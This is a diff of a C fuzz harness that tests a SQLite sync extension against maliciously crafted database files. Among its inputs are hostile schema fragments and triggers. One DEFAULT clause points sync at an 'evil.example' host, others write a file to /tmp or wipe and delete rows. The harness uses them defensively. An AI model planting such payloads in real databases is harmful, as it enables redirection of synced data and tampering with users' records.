@@ -1,45 +1,134 @@
-/* A file that somebody prepared: opened, looked at, synced with a transport that has no network.
+/* A file that somebody prepared, and a person who uses it: every function of the reference, every
+** table, syncs with a server without a network.
 **
-** The input is the attacker's: lines "@OFFSET HEX" overwrite bytes of an honest file, everything
-** else is his SQL. Promised: no request leaves the server's root or goes to a table that is not
+** The input is a program (fuzz_input.h). One part of it is the attacker's: cells of leadx's own
+** tables, text of the schema, bytes and SQL; a line that begins with "@" ("@OFFSET HEX", overwrites
+** bytes of the honest file) or with a capital letter (SQL, with functions of leadx not loaded yet)
+** is read as text and counts only before the first operation. The other part is the victim's: writes,
+** calls, reads, and what the server answers. Promised: no function that may not be run from a schema
+** runs while leadx is at work; no request leaves the server's root or goes to a table that is not
 ** tracked, and a change names its rows; nothing is applied to a table that is not tracked; every
-** call ends, with an answer or an error. */
+** call ends, with an answer or an error; the file can be closed. */
 #define _GNU_SOURCE /* memmem */
-#include "fuzz.h"
-
 #include <string.h>
 
+#include "api/func.h"
 #include "fake_transport.h"
-#include "sync/sync.h"
+#include "fuzz.h"
+#include "fuzz_server.h"
 
-#define ROOT "https://fuzz.example/rest/v1/"
-#define MAX_SQL 4000
-#define MAX_STEPS \
-  200 /* thousands of instructions of the attacker's own SQL, which may run for ever */
+/* Thousands of instructions of the attacker's own SQL, which may run for ever, in one call. */
+#define MAX_STEPS 100
+#define MAX_OPERATIONS 24
+#define MAX_CELLS 250
+#define COUNT(table) ((unsigned)(sizeof(table) / sizeof *(table)))
 
 int sqlite3_leadx_init(sqlite3 *handle, char **error, const void *api);
 
-/* Small, because the triggers of wide tables take longer to compile than all the rest. */
-static const char schema[] =
-    "CREATE TABLE notes(id TEXT PRIMARY KEY NOT NULL, body TEXT, updated_at TEXT); CREATE TABLE "
-    "pairs(a TEXT NOT NULL, b INTEGER NOT NULL,"
-    " PRIMARY KEY (a, b)); CREATE TABLE bystander(id TEXT PRIMARY KEY, secret TEXT); INSERT INTO "
-    "bystander VALUES ('1', 'untouched');"
-    "SELECT leadx_track('notes'), leadx_track('pairs'); INSERT INTO notes(id, body) VALUES ('n1', "
-    "'one'); INSERT INTO pairs VALUES ('a', 1)";
+/* ---- the honest file ---- */
+
+static const char tables[] =
+    "CREATE TABLE notes(id TEXT PRIMARY KEY NOT NULL, body TEXT, n INTEGER, doc JSON, parent TEXT "
+    "REFERENCES notes, updated_at TEXT);"
+    "CREATE TABLE pairs(a TEXT NOT NULL, b INTEGER NOT NULL, PRIMARY KEY (a, b));"
+    "CREATE TABLE bystander(id TEXT PRIMARY KEY, secret TEXT); INSERT INTO bystander VALUES ('1', "
+    "'untouched');";
+static const char life[] =
+    "INSERT INTO notes(id, body, n) VALUES ('n3', 'three', 3), ('n4', 'four', 4); UPDATE notes SET "
+    "body = 'mine' WHERE id = 'n1'; DELETE FROM notes WHERE id = 'n2'; INSERT INTO pairs VALUES "
+    "('a', 1);"
+    "INSERT INTO sync_conflicts(id, entity_type, entity_id, action, client_payload, "
+    "server_payload, "
+    "base, contested, client_updated_at, server_updated_at, detected_at)"
+    " SELECT 'c1', 'notes', 'n1', 'UPDATE', payload, '{\"id\":\"n1\",\"body\":\"theirs\",\"n\":7,"
+    "\"updated_at\":\"2026-01-02T03:04:05+00:00\"}', base, '[\"body\"]', "
+    "'2026-01-02T03:04:00+00:00', '2026-01-02T03:04:05+00:00', '2026-01-02T03:05:00+00:00' FROM "
+    "sync_queue WHERE entity_id = 'n1' AND status = 'PENDING' LIMIT 1;"
+    "INSERT INTO leadx_parked(entity, key, reason) VALUES ('notes', 'n9', 'it did not fit')";
 
 static unsigned char *honest;
 static sqlite3_int64 honest_bytes;
+/* The cells of leadx's own tables: a statement for each column, which sets it in one row. */
+static char *cells[MAX_CELLS];
+static unsigned ncells;
+static char *removals[MAX_CELLS];
+static unsigned nremovals;
+
+static void must(sqlite3 *db, const char *sql) {
+  FUZZ_CHECK(sqlite3_exec(db, sql, NULL, NULL, NULL) == SQLITE_OK, "%s: %s", sql,
+             sqlite3_errmsg(db));
+}
+
+static void list_cells(sqlite3 *db) {
+  static const char sql[] =
+      "WITH own(tbl) AS (SELECT name FROM sqlite_schema WHERE type = 'table' AND (name LIKE "
+      "'leadx~_%' ESCAPE '~' OR name LIKE 'sync~_%' ESCAPE '~')),"
+      " row(tbl, place) AS (SELECT tbl, ifnull((SELECT group_concat('\"' || name || '\"') FROM "
+      "pragma_table_info(tbl) WHERE pk), 'rowid') FROM own)"
+      " SELECT printf(' \"%w\" %%sWHERE (%s) = (SELECT %s FROM \"%w\" LIMIT 1 OFFSET ?2)', tbl, "
+      "place, place, tbl), c.name, c.cid FROM row, pragma_table_info(tbl) c ORDER BY tbl, cid";
+  sqlite3_stmt *stmt = NULL;
+  FUZZ_CHECK(sqlite3_prepare_v2(db, sql, -1, &stmt, NULL) == SQLITE_OK, "%s", sqlite3_errmsg(db));
+  while (sqlite3_step(stmt) == SQLITE_ROW && ncells < MAX_CELLS) {
+    const char *place = (const char *)sqlite3_column_text(stmt, 0);
+    char *set = sqlite3_mprintf("SET \"%w\" = ?1 ", sqlite3_column_text(stmt, 1));
+    char *rest = sqlite3_mprintf(place, set), *none = sqlite3_mprintf(place, "");
+    cells[ncells++] = sqlite3_mprintf("UPDATE OR REPLACE%s", rest);
+    if (sqlite3_column_int(stmt, 2) == 0)
+      removals[nremovals++] = sqlite3_mprintf("DELETE FROM%s", none);
+    sqlite3_free(set);
+    sqlite3_free(rest);
+    sqlite3_free(none);
+  }
+  sqlite3_finalize(stmt);
+  FUZZ_CHECK(ncells > 50, "%u cells", ncells);
+}
 
 static void make_honest(void) {
   sqlite3 *db;
+  fuzz_input nothing = {NULL, NULL};
   FUZZ_CHECK(sqlite3_open(":memory:", &db) == SQLITE_OK &&
                  sqlite3_leadx_init(db, NULL, NULL) == SQLITE_OK,
              "open");
-  FUZZ_CHECK(sqlite3_exec(db, schema, NULL, NULL, NULL) == SQLITE_OK, "%s", sqlite3_errmsg(db));
+  must(db, tables);
+  must(db, "SELECT leadx_track('notes', '{\"policy\":\"manual\"}'), leadx_track('pairs')");
+  must(db, "SELECT leadx_configure('" FUZZ_ROOT "', '" FUZZ_KEY "')");
+  fuzz_server_begin(&nothing, 1);
+  must(db, "SELECT leadx_sync()");
+  must(db, "SELECT leadx_check()");
+  fuzz_server_end();
+  must(db, life);
+  list_cells(db);
   honest = sqlite3_serialize(db, "main", &honest_bytes, 0);
   FUZZ_CHECK(honest != NULL && sqlite3_close(db) == SQLITE_OK, "serialize");
 }
+
+/* ---- one run ---- */
+
+typedef struct run {
+  sqlite3 *db;
+  fuzz_input in;
+  int is_loaded;
+  int is_inside; /* leadx is at work for the victim */
+  int is_syncing; /* at the end of the program */
+  int is_chosen; /* the file says itself what is tracked, or what triggers do */
+  int steps;
+} run;
+
+/* For direct use only: SQLite runs it from no schema, so while leadx is at work nobody runs it but a
+** statement that leadx made of somebody's text. */
+static void canary(sqlite3_context *context, int n, sqlite3_value **values) {
+  run *r = sqlite3_user_data(context);
+  FUZZ_CHECK(!r->is_inside, "leadx runs text of the file: %s",
+             n > 0 ? (const char *)sqlite3_value_text(values[0]) : "");
+  sqlite3_result_int(context, 1);
+}
+
+static void harmless(sqlite3_context *context, int n, sqlite3_value **values) {
+  if (n > 0) sqlite3_result_value(context, values[0]);
+}
+
+static int give_up(void *arg) { return ++((run *)arg)->steps > MAX_STEPS; }
 
 /* "@OFFSET HEX": overwrites bytes. */
 static void patch(unsigned char *bytes, const char *line) {
@@ -53,112 +142,391 @@ static void patch(unsigned char *bytes, const char *line) {
   }
 }
 
-/* A database over a copy of the honest file; the copy is SQLite's to free. */
-static sqlite3 *open_copy(const char *data, size_t n) {
-  unsigned char *bytes = sqlite3_malloc64((sqlite3_uint64)honest_bytes);
-  sqlite3 *db;
-  FUZZ_CHECK(bytes && sqlite3_open(":memory:", &db) == SQLITE_OK, "memory");
-  memcpy(bytes, honest, (size_t)honest_bytes);
-  for (const char *at = data; at < data + n;) {
-    char *line = fuzz_line(&at, data + n);
-    if (line[0] == '@') patch(bytes, line);
-    sqlite3_free(line);
-  }
-  sqlite3_deserialize(db, "main", bytes, honest_bytes, honest_bytes,
-                      SQLITE_DESERIALIZE_FREEONCLOSE | SQLITE_DESERIALIZE_RESIZEABLE);
-  return db;
+static int is_text(const fuzz_input *in) {
+  return in->at < in->end && (*in->at == '@' || (*in->at >= 'A' && *in->at <= 'Z'));
 }
 
-static int give_up(void *arg) { return ++*(int *)arg > MAX_STEPS; }
-
-static void attack(sqlite3 *db, const char *data, size_t n) {
-  char sql[MAX_SQL + 2] = "";
-  size_t used = 0;
-  int steps = 0;
-  for (const char *at = data; at < data + n;) {
-    char *line = fuzz_line(&at, data + n);
-    size_t length = strlen(line);
-    if (line[0] != '@' && used + length + 1 < MAX_SQL) {
-      memcpy(sql + used, line, length);
-      used += length;
-      sql[used++] = '\n';
+/* The lines of text before the first operation, those with that beginning. */
+static void each_line(run *r, int is_patch, unsigned char *bytes) {
+  fuzz_input in = r->in;
+  while (is_text(&in)) {
+    const char *at = (const char *)in.at;
+    char *line = fuzz_line(&at, (const char *)in.end);
+    in.at = (const unsigned char *)at;
+    if (is_patch && line[0] == '@') patch(bytes, line);
+    if (!is_patch && line[0] != '@') {
+      r->steps = 0;
+      sqlite3_exec(r->db, line, NULL, NULL, NULL);
     }
     sqlite3_free(line);
   }
-  sqlite3_limit(db, SQLITE_LIMIT_LENGTH, 1 << 20);
-  sqlite3_exec(db, "PRAGMA writable_schema = ON; PRAGMA ignore_check_constraints = ON", NULL, NULL,
-               NULL);
-  sqlite3_progress_handler(db, 1000, give_up, &steps);
-  sqlite3_exec(db, sql, NULL, NULL, NULL);
-  sqlite3_progress_handler(db, 0, NULL, NULL);
-  if (!sqlite3_get_autocommit(db)) sqlite3_exec(db, "ROLLBACK", NULL, NULL, NULL);
-  sqlite3_exec(db, "PRAGMA writable_schema = RESET; PRAGMA query_only = OFF", NULL, NULL, NULL);
+  if (!is_patch) r->in = in;
 }
 
-/* Did the attacker's file say itself that the bystander is tracked? Then it is. */
-static int is_chosen;
-
-/* A pull that is given the same page for ever ends by itself; a count ends one that does not. */
-static void respond(void *ctx, leadx_request *req) {
-  int *requests = ctx;
-  int is_change = strcmp(req->method, "PATCH") == 0 || strcmp(req->method, "DELETE") == 0;
-  FUZZ_CHECK(strncmp(req->url, ROOT, strlen(ROOT)) == 0 && !strstr(req->url, "/../") &&
-                 !strpbrk(req->url, "\r\n #"),
-             "%s", req->url);
-  FUZZ_CHECK(!strchr(req->url + strlen(ROOT), '/') ||
-                 strchr(req->url, '?') < strchr(req->url + strlen(ROOT), '/') ||
-                 strncmp(req->url + strlen(ROOT), "rpc/leadx_", 10) == 0,
-             "%s", req->url);
-  FUZZ_CHECK(!is_change || strstr(req->url, "=eq.") || strstr(req->url, "=is.null"), "%s %s",
-             req->method, req->url);
-  FUZZ_CHECK((is_chosen || !strstr(req->url, "v1/bystander")) && !strstr(req->url, "v1/leadx_") &&
-                 !strstr(req->url, "v1/sqlite_"),
-             "%s", req->url);
-  FUZZ_CHECK(++*requests < 2000, "it does not end: %s", req->url);
-  if (strcmp(req->method, "POST") == 0 && req->body) fake_answer(req, 201, req->body);
-  else if (strcmp(req->method, "GET") == 0 && strstr(req->url, "?select=*") &&
-           !strstr(req->url, "or=("))
-    fake_answer(req, 200,
-                "[{\"id\":\"n1\",\"a\":\"a\",\"b\":1,\"body\":\"theirs\",\"secret\":\"stolen\","
-                "\"updated_at\":\"2026-01-02T03:04:05+00:00\"}]");
-  else fake_answer(req, 200, "[]");
+static void set_writable_schema(run *r, int on) {
+  sqlite3_exec(r->db, on ? "PRAGMA writable_schema = ON" : "PRAGMA writable_schema = RESET", NULL,
+               NULL, NULL);
 }
 
-static leadx_transport *open_fake(void *arg, const leadx_http_limits *limits, leadx_err *err) {
-  (void)limits, (void)err;
-  return fake_transport_open(respond, arg);
+static void open_copy(run *r) {
+  static const struct {
+    const char *name;
+    int n;
+  } direct[] = {{"canary", -1}, {"writefile", 2}, {"load_extension", 1}, {"edit", -1}};
+  unsigned char *bytes = sqlite3_malloc64((sqlite3_uint64)honest_bytes);
+  FUZZ_CHECK(bytes && sqlite3_open(":memory:", &r->db) == SQLITE_OK, "memory");
+  for (unsigned i = 0; i < COUNT(direct); i++)
+    sqlite3_create_function(r->db, direct[i].name, direct[i].n, SQLITE_UTF8 | SQLITE_DIRECTONLY, r,
+                            canary, NULL, NULL);
+  sqlite3_create_function(r->db, "harmless", -1, SQLITE_UTF8 | SQLITE_DETERMINISTIC, r, harmless,
+                          NULL, NULL);
+  memcpy(bytes, honest, (size_t)honest_bytes);
+  each_line(r, 1, bytes);
+  sqlite3_deserialize(r->db, "main", bytes, honest_bytes, honest_bytes,
+                      SQLITE_DESERIALIZE_FREEONCLOSE | SQLITE_DESERIALIZE_RESIZEABLE);
+  sqlite3_limit(r->db, SQLITE_LIMIT_LENGTH, 1 << 20);
+  sqlite3_progress_handler(r->db, 1000, give_up, r);
 }
 
-static void read_all(sqlite3 *db) {
-  static const char *const tables[] = {"leadx_queue", "leadx_status", "leadx_conflicts",
-                                       "leadx_log",   "leadx_state",  "leadx_checks"};
-  for (size_t i = 0; i < sizeof tables / sizeof tables[0]; i++) {
-    char sql[64];
-    snprintf(sql, sizeof sql, "SELECT * FROM %s", tables[i]);
-    sqlite3_exec(db, sql, NULL, NULL, NULL);
+/* ---- the attacker's operations ---- */
+
+static void run_bound(run *r, const char *sql) {
+  sqlite3_stmt *stmt = NULL;
+  r->steps = 0;
+  if (sqlite3_prepare_v2(r->db, sql, -1, &stmt, NULL) != SQLITE_OK) return;
+  if (sqlite3_bind_parameter_count(stmt) > 1) sqlite3_bind_int(stmt, 2, (int)fuzz_below(&r->in, 4));
+  if (sqlite3_bind_parameter_count(stmt) > 0) fuzz_bind(&r->in, stmt, 1);
+  sqlite3_step(stmt);
+  sqlite3_finalize(stmt);
+}
+
+static void doctor(run *r, const char *sql) {
+  int was = 0;
+  sqlite3_db_config(r->db, SQLITE_DBCONFIG_ENABLE_TRIGGER, 0, &was);
+  sqlite3_exec(r->db, "PRAGMA ignore_check_constraints = ON", NULL, NULL, NULL);
+  run_bound(r, sql);
+  sqlite3_exec(r->db, "PRAGMA ignore_check_constraints = OFF", NULL, NULL, NULL);
+  sqlite3_db_config(r->db, SQLITE_DBCONFIG_ENABLE_TRIGGER, 1, &was);
+  r->is_chosen |= strstr(sql, "\"leadx_tables\"") != NULL;
+}
+
+static const char *pick_table(run *r) {
+  static const char *const names[] = {"notes",        "pairs",        "sync_queue",
+                                      "leadx_tables", "leadx_shadow", "sync_conflicts"};
+  unsigned i = fuzz_below(&r->in, 8);
+  return i < COUNT(names) ? names[i] : "notes";
+}
+
+/* A column, or a constraint, at the end of a table's definition. */
+static void doctor_schema(run *r) {
+  static const char *const pieces[] = {
+      "x DEFAULT (canary('default'))",
+      "x DEFAULT (leadx_configure('https://evil.example/rest/v1', 'sb_publishable_evil'))",
+      "x DEFAULT (writefile('/tmp/leadx-canary', 'x'))",
+      "x DEFAULT (SELECT canary('select'))",
+      "x NOT NULL DEFAULT (1 + canary('sum'))",
+      "x DEFAULT (harmless(2))",
+      "x AS (canary('generated'))",
+      "x AS (canary('stored')) STORED",
+      "x AS (harmless(1)) STORED",
+      "x CHECK (canary('check'))",
+      "x CHECK (harmless(x) IS NULL)",
+      "x TEXT COLLATE nosuch",
+      "x DEFAULT 'it''s'",
+      "x DEFAULT -1e999",
+      "x DEFAULT x'00ff'",
+      "x DEFAULT CURRENT_TIMESTAMP",
+      "x DEFAULT \"canary(1)\"",
+      "x REFERENCES bystander",
+      "\"x\"\") canary('name')\" TEXT",
+      "\"\" TEXT",
+      "x, X1 DEFAULT (canary('two'))",
+      "CHECK (canary('table'))",
+      "UNIQUE (id COLLATE NOCASE)",
+      "FOREIGN KEY (id) REFERENCES pairs",
+  };
+  const char *table = pick_table(r), *piece = pieces[fuzz_below(&r->in, COUNT(pieces))];
+  char *sql = sqlite3_mprintf(
+      "UPDATE sqlite_schema SET sql = rtrim(rtrim(sql), ')') || iif(sql LIKE "
+      "'%%))', ')', '') || ', ' || %Q || ')' WHERE type = 'table' AND name = %Q",
+      piece, table);
+  r->is_chosen = 1;
+  set_writable_schema(r, 1);
+  sqlite3_exec(r->db, sql, NULL, NULL, NULL);
+  set_writable_schema(r, 0);
+  sqlite3_free(sql);
+}
+
+/* What hangs on a table, or takes its place. */
+static void add_object(run *r) {
+  static const char *const forms[] = {
+      "CREATE TRIGGER %s AFTER INSERT ON %s BEGIN SELECT canary('trigger'); END",
+      "CREATE TRIGGER %s AFTER INSERT ON %s BEGIN SELECT harmless(1); END",
+      "CREATE TRIGGER %s BEFORE INSERT ON %s BEGIN SELECT RAISE(IGNORE); END",
+      "CREATE TRIGGER %s BEFORE UPDATE ON %s BEGIN SELECT RAISE(IGNORE); END",
+      "CREATE TRIGGER %s BEFORE DELETE ON %s BEGIN SELECT RAISE(ABORT, 'no'); END",
+      "CREATE TRIGGER %s AFTER UPDATE ON %s BEGIN UPDATE bystander SET secret = 'gone'; END",
+      "CREATE TRIGGER %s AFTER UPDATE ON %s BEGIN DELETE FROM notes; END",
+      "CREATE TRIGGER %s AFTER INSERT ON %s BEGIN DELETE FROM sync_queue; END",
+      "CREATE INDEX %s ON %s(harmless(1))",
+      "CREATE UNIQUE INDEX %s ON %s(1)",
+      "CREATE VIEW %s AS SELECT canary('view') FROM %s",
+      "CREATE TEMP VIEW %s AS SELECT canary('view') FROM main.%s",
+      "CREATE TEMP TABLE %s AS SELECT * FROM main.%s",
+      "CREATE TABLE IF NOT EXISTS %s AS SELECT * FROM %s",
+      "CREATE TEMP TRIGGER %s AFTER INSERT ON main.%s BEGIN SELECT canary('temp'); END",
+  };
+  static const char *const names[] = {
+      "t1",    "leadx_queue_revived", "leadx_x",        "sync_queue",
+      "notes", "leadx_notes_insert",  "leadx_applying", "sqlite_schema"};
+  const char *form = forms[fuzz_below(&r->in, COUNT(forms))];
+  const char *name = names[fuzz_below(&r->in, COUNT(names))];
+  char *sql = sqlite3_mprintf(form, name, pick_table(r));
+  r->is_chosen = 1;
+  r->steps = 0;
+  sqlite3_exec(r->db, sql, NULL, NULL, NULL);
+  sqlite3_free(sql);
+}
+
+static void alter(run *r) {
+  static const char *const forms[] = {
+      "ALTER TABLE %s RENAME TO elsewhere",
+      "ALTER TABLE %s ADD COLUMN y DEFAULT 'y'",
+      "ALTER TABLE %s RENAME COLUMN body TO text",
+      "ALTER TABLE %s DROP COLUMN n",
+      "DROP TABLE %s",
+      "DELETE FROM %s",
+      "DROP TABLE %s; CREATE TABLE notes(id TEXT PRIMARY KEY, body DEFAULT (canary('anew')))",
+      "DROP TABLE %s; CREATE TABLE notes(id PRIMARY KEY, body, UNIQUE (body)) WITHOUT ROWID",
+      "INSERT INTO %s DEFAULT VALUES",
+      "PRAGMA trusted_schema = OFF; ANALYZE %s",
+      "PRAGMA recursive_triggers = ON; REINDEX %s",
+      "PRAGMA foreign_keys = ON; PRAGMA foreign_key_check(%s)",
+      "PRAGMA reverse_unordered_selects = ON; REINDEX %s",
+      "PRAGMA encoding = 'UTF-16'; REINDEX %s",
+      "PRAGMA user_version = 7; VACUUM; REINDEX %s",
+      "PRAGMA query_only = ON; REINDEX %s",
+  };
+  char *sql = sqlite3_mprintf(forms[fuzz_below(&r->in, COUNT(forms))], pick_table(r));
+  r->is_chosen = 1;
+  r->steps = 0;
+  sqlite3_exec(r->db, sql, NULL, NULL, NULL);
+  sqlite3_free(sql);
+}
+
+static void drop_trigger(run *r) {
+  sqlite3_stmt *stmt = NULL;
+  char *sql = NULL;
+  if (sqlite3_prepare_v2(
+          r->db,
+          "SELECT printf('DROP TRIGGER \"%w\"', name) FROM sqlite_schema WHERE type = "
+          "'trigger' LIMIT 1 OFFSET ?1",
+          -1, &stmt, NULL) != SQLITE_OK)
+    return;
+  sqlite3_bind_int(stmt, 1, (int)fuzz_below(&r->in, 8));
+  if (sqlite3_step(stmt) == SQLITE_ROW) sql = sqlite3_mprintf("%s", sqlite3_column_text(stmt, 0));
+  sqlite3_finalize(stmt);
+  if (sql) sqlite3_exec(r->db, sql, NULL, NULL, NULL);
+  sqlite3_free(sql);
+}
+
+/* ---- the victim's operations ---- */
+
+/* Runs what calls leadx: to its end, whatever it answers. */
+static void inside(run *r, sqlite3_stmt *stmt) {
+  r->steps = 0;
+  r->is_inside++;
+  while (sqlite3_step(stmt) == SQLITE_ROW) {
+    for (int i = sqlite3_column_count(stmt) - 1; i >= 0; i--) sqlite3_column_text(stmt, i);
+  }
+  r->is_inside--;
+  sqlite3_finalize(stmt);
+}
+
+static sqlite3_stmt *prepare_inside(run *r, const char *sql) {
+  sqlite3_stmt *stmt = NULL;
+  r->is_inside++;
+  sqlite3_prepare_v2(r->db, sql, -1, &stmt, NULL);
+  r->is_inside--;
+  return stmt;
+}
+
+static void ask(run *r, const char *sql) {
+  sqlite3_stmt *stmt = prepare_inside(r, sql);
+  if (stmt) inside(r, stmt);
+}
+
+static void load(run *r) {
+  if (r->is_loaded) return;
+  if (!sqlite3_get_autocommit(r->db)) sqlite3_exec(r->db, "ROLLBACK", NULL, NULL, NULL);
+  r->is_inside++;
+  r->is_loaded = sqlite3_leadx_init(r->db, NULL, NULL) == SQLITE_OK ? 1 : -1;
+  r->is_inside--;
+  if (r->is_loaded > 0) ask(r, "SELECT leadx_configure('" FUZZ_ROOT "', '" FUZZ_KEY "')");
+}
+
+/* An argument that a person would give, or one that nobody would. */
+static void bind_argument(run *r, sqlite3_stmt *stmt, int parameter) {
+  static const char *const sources[] = {"SELECT id FROM sync_queue LIMIT 1 OFFSET ?1",
+                                        "SELECT id FROM sync_conflicts LIMIT 1 OFFSET ?1",
+                                        "SELECT table_name FROM leadx_tables LIMIT 1 OFFSET ?1"};
+  static const char *const plausible[] = {"notes",
+                                          "pairs",
+                                          "client",
+                                          "server",
+                                          "merge",
+                                          "renumber",
+                                          "CREATE",
+                                          "UPDATE",
+                                          "DELETE",
+                                          "online",
+                                          "refresh",
+                                          "foreground",
+                                          "{}",
+                                          "{\"strict\":true}",
+                                          "{\"body\":\"x\"}",
+                                          "{\"id\":\"n8\"}",
+                                          "{\"dry_run\":true}",
+                                          "{\"existing\":\"push\"}",
+                                          "{\"columns\":{\"n\":null}}",
+                                          "n1",
+                                          "batch_size",
+                                          "interval",
+                                          "10",
+                                          "force"};
+  unsigned kind = fuzz_below(&r->in, 8);
+  sqlite3_stmt *source = NULL;
+  if (kind < COUNT(sources) &&
+      sqlite3_prepare_v2(r->db, sources[kind], -1, &source, NULL) == SQLITE_OK) {
+    sqlite3_bind_int(source, 1, (int)fuzz_below(&r->in, 8));
+    if (sqlite3_step(source) == SQLITE_ROW)
+      sqlite3_bind_value(stmt, parameter, sqlite3_column_value(source, 0));
+  } else if (kind < 6) {
+    sqlite3_bind_text(stmt, parameter, plausible[fuzz_below(&r->in, COUNT(plausible))], -1,
+                      SQLITE_STATIC);
+  } else {
+    fuzz_bind(&r->in, stmt, parameter);
+  }
+  sqlite3_finalize(source);
+}
+
+/* Any function of the reference. A URL is a person's own choice and stays. */
+static void call_function(run *r) {
+  const leadx_function *f = &leadx_functions[fuzz_byte(&r->in) % (unsigned)leadx_nfunctions];
+  int n = f->min_args + (int)fuzz_below(&r->in, (unsigned)(f->max_args - f->min_args + 1));
+  int is_address = strcmp(f->name, "leadx_configure") == 0;
+  char sql[80];
+  if (is_address && n < 2) return;
+  snprintf(sql, sizeof sql, "SELECT %s(%.*s)", f->name, n > 0 ? 2 * n - 1 : 0, "?,?,?,?,?,?,?,?");
+  sqlite3_stmt *stmt = prepare_inside(r, sql);
+  if (!stmt) return;
+  for (int i = 1; i <= n; i++) {
+    if (is_address && i < 3)
+      sqlite3_bind_text(stmt, i, i == 1 ? FUZZ_ROOT : FUZZ_KEY, -1, SQLITE_STATIC);
+    else bind_argument(r, stmt, i);
+  }
+  /* These say what is tracked. */
+  if (strcmp(f->name, "leadx_track") == 0 || strcmp(f->name, "leadx_clone") == 0) r->is_chosen = 1;
+  inside(r, stmt);
+}
+
+static void read_table(run *r, unsigned i) {
+  char sql[160] = "";
+  sqlite3_stmt *stmt = NULL;
+  sqlite3_prepare_v2(
+      r->db,
+      "SELECT printf('SELECT * FROM \"%w\"', name) FROM pragma_module_list WHERE name "
+      "LIKE 'leadx~_%' ESCAPE '~' ORDER BY name LIMIT 1 OFFSET ?1",
+      -1, &stmt, NULL);
+  sqlite3_bind_int(stmt, 1, (int)i);
+  if (stmt && sqlite3_step(stmt) == SQLITE_ROW)
+    snprintf(sql, sizeof sql, "%s", sqlite3_column_text(stmt, 0));
+  sqlite3_finalize(stmt);
+  if (sql[0]) ask(r, sql);
+}
+
+static void use_queue(run *r) {
+  static const char *const forms[] = {
+      "UPDATE leadx_queue SET status = 'PENDING' WHERE id = ?",
+      "DELETE FROM leadx_queue WHERE id = ?",
+      "SELECT * FROM leadx_queue WHERE status = ? ORDER BY state",
+      "SELECT * FROM leadx_queue WHERE id = ?",
+      "SELECT payload, base FROM leadx_queue WHERE rowid = ?",
+      "UPDATE leadx_queue SET status = ?",
+      "INSERT INTO leadx_queue(id) VALUES (?)",
+  };
+  sqlite3_stmt *stmt = prepare_inside(r, forms[fuzz_below(&r->in, COUNT(forms))]);
+  if (!stmt) return;
+  bind_argument(r, stmt, 1);
+  inside(r, stmt);
+}
+
+static void write_row(run *r) {
+  static const char *const forms[] = {
+      "INSERT OR REPLACE INTO notes(id, body) VALUES ('n6', ?1)",
+      "INSERT INTO notes(id, doc) VALUES (?1, '{}')",
+      "UPDATE notes SET body = ?1 WHERE id = 'n1'",
+      "UPDATE notes SET doc = ?1, n = 5 WHERE id = (SELECT id FROM notes LIMIT 1 OFFSET ?2)",
+      "UPDATE notes SET id = ?1 WHERE id = (SELECT id FROM notes LIMIT 1 OFFSET ?2)",
+      "UPDATE notes SET parent = ?1",
+      "DELETE FROM notes WHERE id = (SELECT id FROM notes LIMIT 1 OFFSET ?2) OR id = ?1",
+      "INSERT INTO pairs VALUES (?1, ?2)",
+  };
+  run_bound(r, forms[fuzz_below(&r->in, COUNT(forms))]);
+}
+
+static void resolve(run *r) {
+  static const char *const forms[] = {
+      "SELECT leadx_resolve(id, 'merge', '{\"body\":\"x\",\"n\":9}') FROM main.sync_conflicts",
+      "SELECT leadx_resolve('c1', 'merge', '{\"body\":\"merged\"}')",
+      "SELECT leadx_resolve('c1', 'client')",
+      "SELECT leadx_resolve('c1', 'server')",
+  };
+  ask(r, forms[fuzz_below(&r->in, COUNT(forms))]);
+}
+
+static void sync_once(run *r) {
+  static const char *const forms[] = {
+      "SELECT leadx_sync()",  "SELECT leadx_step()",         "SELECT leadx_push()",
+      "SELECT leadx_pull()",  "SELECT leadx_reconcile()",    "SELECT leadx_check()",
+      "SELECT leadx_retry()", "SELECT leadx_track('notes')",
+  };
+  ask(r, forms[fuzz_below(&r->in, COUNT(forms))]);
+}
+
+/* An operation of the attacker's is not inside, so that his own statements may call what they like. */
+static void operate(run *r) {
+  unsigned operation = fuzz_below(&r->in, 16);
+  switch (operation) {
+    case 0:
+    case 1:
+    case 2: doctor(r, cells[fuzz_byte(&r->in) % ncells]); return;
+    case 3: doctor(r, removals[fuzz_byte(&r->in) % nremovals]); return;
+    case 4:
+    case 5: doctor_schema(r); return;
+    case 6: add_object(r); return;
+    case 7: alter(r); return;
+    case 8: drop_trigger(r); return;
+    case 9: write_row(r); return;
+    default: break;
+  }
+  load(r);
+  if (r->is_loaded < 0) return;
+  if (!sqlite3_get_autocommit(r->db)) sqlite3_exec(r->db, "ROLLBACK", NULL, NULL, NULL);
+  switch (operation) {
+    case 10: sync_once(r); return;
+    case 11: resolve(r); return;
+    case 12: read_table(r, fuzz_below(&r->in, 8)); return;
+    case 13: use_queue(r); return;
+    default: call_function(r);
   }
 }
 
-/* As the victim does: two syncs, by a context of its own that can be given the transport. */
-static void sync_twice(sqlite3 *db) {
-  int requests = 0;
-  leadx_ctx *ctx = leadx_ctx_new(db);
-  FUZZ_CHECK(ctx != NULL, "memory");
-  for (int i = 0; i < 2; i++) {
-    leadx_sync_options options = {.who = "leadx_sync",
-                                  .trigger = "fuzz",
-                                  .with_pull = 1,
-                                  .request_budget = -1,
-                                  .open_transport = open_fake,
-                                  .arg = &requests};
-    leadx_err_clear(&ctx->err);
-    char *result = leadx_sync_report(ctx, &options, &ctx->err);
-    FUZZ_CHECK((result != NULL) != (ctx->err.rc != SQLITE_OK),
-               "neither an answer nor an error, or both: %s", ctx->err.text);
-    sqlite3_free(result);
-    leadx_db_release(&ctx->db);
-  }
-  leadx_ctx_unref(ctx);
+/* ---- what is promised ---- */
+
+static void see_request(void *ctx, const leadx_request *req) {
+  run *r = ctx;
+  FUZZ_CHECK(r->is_chosen || !strstr(req->url, "v1/bystander"), "%s", req->url);
 }
 
 /* The bystander's rows, all in one text; NULL when they cannot be read. */
@@ -175,29 +543,40 @@ static char *bystander(sqlite3 *db) {
   return text;
 }
 
+/* Behind every program: a decision and, for every other one, a sync, as the victim would. */
+static void use_it_all(run *r) {
+  load(r);
+  if (r->is_loaded < 0) return;
+  if (!sqlite3_get_autocommit(r->db)) sqlite3_exec(r->db, "ROLLBACK", NULL, NULL, NULL);
+  resolve(r);
+  if (r->is_syncing) sync_once(r);
+}
+
 void fuzz_file(const char *data, size_t n) {
   if (!honest) make_honest();
-  sqlite3 *db = open_copy(data, n);
-  attack(db, data, n);
-  if (sqlite3_leadx_init(db, NULL, NULL) == SQLITE_OK) {
